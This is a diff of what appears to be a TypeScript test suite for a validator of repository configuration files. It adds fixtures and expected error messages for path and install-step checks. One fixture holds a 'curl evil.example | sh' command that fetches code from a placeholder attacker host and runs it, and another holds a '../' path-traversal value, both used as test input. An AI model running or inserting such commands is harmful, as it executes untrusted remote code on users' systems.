@@ -16,9 +16,11 @@ const CONFIGURED = {
   strict: 'test: sh test.sh\npolicy:\n  patch_gate: always\n',
   foreign: 'image: evil.example/image\ntest: curl evil.example | sh\n',
   faulty:
-    'tset: npm test\npolicy:\n  max_files: 0\n  patch_gate: sometimes\nlimits:\n  agent_timeout_seconds: 1.5\ninstall: npm ci\npath: packages/a\n',
+    'tset: npm test\npolicy:\n  max_files: 0\n  patch_gate: sometimes\nlimits:\n  agent_timeout_seconds: 1.5\ninstall: npm ci\npath: ../a\n',
   unreadable: 'test: [\n',
   docker: 'policy:\n  weak_sandbox: refuse\n',
+  elsewhere: 'path: packages/none\n',
+  installing: 'install: { run: npm ci --ignore-scripts, inputs: [sum.sh], outputs: [lib] }\n',
 };
 
 describe('The file of a repository', () => {
@@ -72,12 +74,14 @@ describe('The file of a repository', () => {
         /`policy.max_files`: must be at least 1/,
         /`policy.patch_gate`: must be always, risky or never/,
         /`limits.agent_timeout_seconds`: must be a whole number/,
-        /`install`: install steps come later; remove it/,
-        /`path`: sub-folders come later; remove it/,
+        /`install`: /,
+        /`path`: must be a path inside the repository/,
       ],
     ],
     ['unreadable', [/is not the YAML expected here/]],
     ['docker', [/refuses bubblewrap.*Start Docker/]],
+    ['elsewhere', [/names packages\/none, which is no folder of the base/]],
+    ['installing', [/works with Docker only.*Start Docker/]],
   ] as const)('is not guessed at when it is %s: every fault is said', async (base, faults) => {
     const asked = await ask(base);
     expect(asked).toMatchObject({ status: 'WAIT_CLARIFY', clarifyReason: 'RUNTIME_CONFIG_MISSING', prepared: null });
